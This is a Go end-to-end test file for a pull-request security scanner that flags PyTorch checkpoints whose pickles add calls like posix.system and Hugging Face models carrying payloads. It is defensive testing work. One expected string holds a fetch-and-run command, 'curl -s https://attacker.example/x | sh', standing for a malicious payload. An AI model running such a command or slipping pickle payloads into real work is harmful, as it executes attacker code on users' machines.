package e2e

import (
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ward-sec/ward/internal/fakegithub"
	"github.com/ward-sec/ward/internal/fakehub"
)

// modelFile is a checkpoint torch wrote (checks/model/modeldiff/testdata/gen.py).
func modelFile(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "checks", "model", "modeldiff", "testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func fileComments(gh *fakegithub.Server, pr int) map[string]string {
	out := map[string]string{}
	for _, c := range gh.ReviewComments(repo, pr) {
		if c.SubjectType == "file" {
			out[c.Path] += c.Body
		}
	}
	return out
}

// TestModelChangesThroughAPR: a PR replaces one benign checkpoint with one
// whose pickle adds a call, and another with one that adds tensors. Both
// changes show in the check run's "Model changes" and in one comment on
// each file, as a reviewer sees them; a second push of the same files
// posts nothing again.
func TestModelChangesThroughAPR(t *testing.T) {
	gh, r, w := setup(t)
	r.commit("main", "models", map[string]string{"models/a.pt": modelFile(t, "base.pt"), "models/b.pt": modelFile(t, "base.pt")})
	sha := r.commit("swap", "retrained models", map[string]string{
		"models/a.pt": modelFile(t, "payload.pt"), "models/b.pt": modelFile(t, "added_tensor.pt")})
	gh.OpenPR(repo, 4, "main", "swap")
	if code := w.deliver("pull_request", "d-models", gh.PullRequestEvent("opened", repo, 4)); code != http.StatusAccepted {
		t.Fatalf("opened: HTTP %d", code)
	}
	run := waitConclusion(t, gh, repo, sha, 1)[0]
	if run.Conclusion != "failure" {
		t.Fatalf("conclusion %q, want failure; summary:\n%s", run.Conclusion, run.Summary)
	}
	i := strings.Index(run.Summary, "### Model changes")
	if i < 0 {
		t.Fatalf("no Model changes section:\n%s", run.Summary)
	}
	sec := run.Summary[i:]
	comments := fileComments(gh, 4)
	for path, wants := range map[string][]string{
		"models/a.pt": {"Calls added (run by the unpickler on load): `posix.system`", "dangerous", "Tensors: 7 → 7"},
		"models/b.pt": {"| added | `classifier.weight` |  | float32 [3, 2] |", "| added | `classifier.bias` |",
			"parameters 19 → 30", "weights only**: data changed, no new code paths"},
	} {
		for _, want := range wants {
			if !strings.Contains(sec, want) {
				t.Errorf("summary: %s lacks %q:\n%s", path, want, sec)
			}
			if !strings.Contains(comments[path], want) {
				t.Errorf("file comment on %s lacks %q:\n%s", path, want, comments[path])
			}
		}
	}
	// the dangerous file is never offered the conversion; the clean one is
	if strings.Contains(comments["models/a.pt"], "save_file(") || !strings.Contains(comments["models/b.pt"], "save_file(") {
		t.Errorf("conversion offers wrong:\n%s\n%s", comments["models/a.pt"], comments["models/b.pt"])
	}
	before := len(fileComments(gh, 4))
	sha2 := r.commit("swap", "notes", map[string]string{"README.md": "# models, retrained\n"})
	gh.SyncPR(repo, 4)
	if code := w.deliver("pull_request", "d-models-2", gh.PullRequestEvent("synchronize", repo, 4)); code != http.StatusAccepted {
		t.Fatalf("synchronize: HTTP %d", code)
	}
	waitConclusion(t, gh, repo, sha2, 1)
	if after := fileComments(gh, 4); len(after) != before || after["models/a.pt"] != comments["models/a.pt"] {
		t.Errorf("a push that left the models alone changed their comments: %d → %d", before, len(after))
	}
}

// TestHubModelThroughAPR: with `hub_check: on` on the base branch, a PR that
// adds from_pretrained("acme/evil") gets a finding on that line naming the
// payload the Hub's checkpoint holds.
func TestHubModelThroughAPR(t *testing.T) {
	h := fakehub.New()
	defer h.Close()
	h.AddCommit("acme/evil", "main", map[string][]byte{
		"config.json": []byte(`{"model_type": "bert"}`), "pytorch_model.bin": []byte(modelFile(t, "payload.pt"))})
	gh := fakegithub.New(t)
	gh.AddInstallation(7, "acme")
	r := newGitRepo(t, map[string]string{"README.md": "# app\n", ".github/ward.yml": "hub_check: on\n"})
	gh.AddRepo(repo, r.dir)
	w := startWard(t, gh, filepath.Join(t.TempDir(), "ward.db"), "WARD_HF_ENDPOINT="+h.URL)
	sha := r.commit("classifier", "add a classifier", map[string]string{"src/classify.py": "from transformers import AutoModel\n\nmodel = AutoModel.from_pretrained(\"acme/evil\")\n"})
	gh.OpenPR(repo, 5, "main", "classifier")
	if code := w.deliver("pull_request", "d-hub", gh.PullRequestEvent("opened", repo, 5)); code != http.StatusAccepted {
		t.Fatalf("opened: HTTP %d", code)
	}
	run := waitConclusion(t, gh, repo, sha, 1)[0]
	if run.Conclusion != "failure" || !strings.Contains(run.Summary, "hub-model-unsafe") {
		t.Fatalf("conclusion %q; summary:\n%s", run.Conclusion, run.Summary)
	}
	var onLine string
	for _, c := range gh.ReviewComments(repo, 5) {
		if c.Path == "src/classify.py" && c.Line == 3 {
			onLine += c.Body
		}
	}
	for _, want := range []string{"hub-model-unsafe", "pytorch_model.bin from acme/evil@main", "posix.system", "curl -s https://attacker.example/x | sh"} {
		if !strings.Contains(onLine, want) {
			t.Errorf("comment on line 3 lacks %q:\n%s", want, onLine)
		}
	}
}
